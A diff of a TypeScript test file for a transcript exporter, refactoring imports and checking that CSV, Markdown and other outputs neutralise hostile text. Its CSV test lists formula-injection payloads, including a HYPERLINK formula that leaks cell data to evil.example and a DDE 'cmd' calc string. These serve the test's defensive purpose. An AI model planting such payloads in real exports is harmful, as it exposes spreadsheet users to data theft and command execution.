@@ -4,7 +4,9 @@
 import { expect } from 'chai';
 import { parse } from 'csv-parse/sync';
 import type { ConversationEntry } from '../../src/sources/api/page.js';
-import { CSV_COLUMNS, csvChunks, escapeMarkdown, markdownCell, render, type ResultFormat, type TranscriptHeader } from '../../src/transcript/formats/index.js';
+import { CSV_COLUMNS } from '../../src/transcript/formats/csv.js';
+import { formatOf, type FormatName, type TranscriptHeader } from '../../src/transcript/formats/index.js';
+import { escapeMarkdown, markdownCell } from '../../src/transcript/formats/markdown.js';
 import { senderLabel, toTranscript, type TranscriptEntry } from '../../src/transcript/normalize.js';
 import { FORMULA_START, autolinksIn, expectedInert, gfmText, hostileStrings, rng, tableCells, unsafeIn } from '../helpers/hostile.js';
 
@@ -38,9 +40,11 @@ const header = (conversationIdentifier: string, orgId = '00D5g000004AbCdEAK'): T
   conversationIdentifier,
   orgId,
   entryCount: 1,
+  complete: true,
+  incompleteReason: null,
 });
-const out = (format: ResultFormat, raw: ConversationEntry[], h = header('c-1')): string =>
-  [...render(toTranscript(raw), { format, utc: true, header: h })].join('');
+const out = (format: FormatName, raw: ConversationEntry[], h = header('c-1')): string =>
+  [...formatOf(format).render({ entries: toTranscript(raw), utc: true, header: h })].join('');
 const one = (fields: Partial<TranscriptEntry>): TranscriptEntry => ({
   time: BASE,
   senderRole: undefined,
@@ -97,7 +101,7 @@ describe('inert output: every format with hostile customer and org text', () => 
 
   it("csv: OWASP's examples get a leading apostrophe; a tab before = can't leave the formula bare", () => {
     const cellOf = (text: string): string => {
-      const rows: string[][] = parse([...csvChunks([one({ text })])].join(''));
+      const rows: string[][] = parse([...formatOf('csv').render({ entries: [one({ text })], utc: true, header: header('c-1') })].join(''));
       return rows[1][5];
     };
     for (const text of ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\t=1+1', '\r\n=1+1', '\uff1d1+1', '\uff0b1', '\uff0d1', '\uff20A1']) {
